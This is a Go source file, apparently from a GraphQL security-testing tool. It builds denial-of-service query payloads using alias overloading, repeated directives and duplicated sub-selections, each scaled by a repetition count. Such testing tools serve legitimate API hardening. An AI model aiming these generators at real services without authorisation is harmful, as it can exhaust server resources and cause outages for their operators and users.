// Package attack assembles the adversarial query documents sent against
// testable fields. Building is pure string templating: the tool only ever
// emits flat single-selection queries, so no AST or printer is involved, and
// field names are trusted because they come from the schema itself.
package attack

import (
	"fmt"
	"strings"
)

// Kind identifies one of the three query-complexity attack classes.
type Kind int

const (
	// AliasOverloading requests the same field many times under different
	// aliases to multiply resolver cost.
	AliasOverloading Kind = iota
	// DirectiveOverloading attaches many repeated directives to a single
	// field to increase parsing and evaluation cost.
	DirectiveOverloading
	// FieldDuplication repeats sub-selections within one field to multiply
	// resolution work.
	FieldDuplication
)

// Kinds lists all attack kinds in the fixed order they are executed.
var Kinds = []Kind{AliasOverloading, DirectiveOverloading, FieldDuplication}

func (k Kind) String() string {
	switch k {
	case AliasOverloading:
		return "Alias Overloading"
	case DirectiveOverloading:
		return "Directive Overloading"
	case FieldDuplication:
		return "Field Duplication"
	}
	return "Unknown"
}

// subSelection is the fixed minimal sub-selection every attack requests.
const subSelection = "id name"

// Build produces the query document for the given attack kind, field name
// and repetition count. It never fails.
func Build(kind Kind, fieldName string, n int) string {
	switch kind {
	case AliasOverloading:
		parts := make([]string, 0, n)
		for i := 0; i < n; i++ {
			parts = append(parts, fmt.Sprintf("alias_%d: %s { %s }", i, fieldName, subSelection))
		}
		return "query {" + strings.Join(parts, " ") + "}"

	case DirectiveOverloading:
		directives := make([]string, 0, n)
		for i := 0; i < n; i++ {
			directives = append(directives, "@include(if: true)")
		}
		return fmt.Sprintf("query { %s %s { %s } }", fieldName, strings.Join(directives, " "), subSelection)

	case FieldDuplication:
		duplicated := make([]string, 0, n)
		for i := 0; i < n; i++ {
			duplicated = append(duplicated, subSelection)
		}
		return fmt.Sprintf("query { %s { %s } }", fieldName, strings.Join(duplicated, " "))
	}
	return ""
}
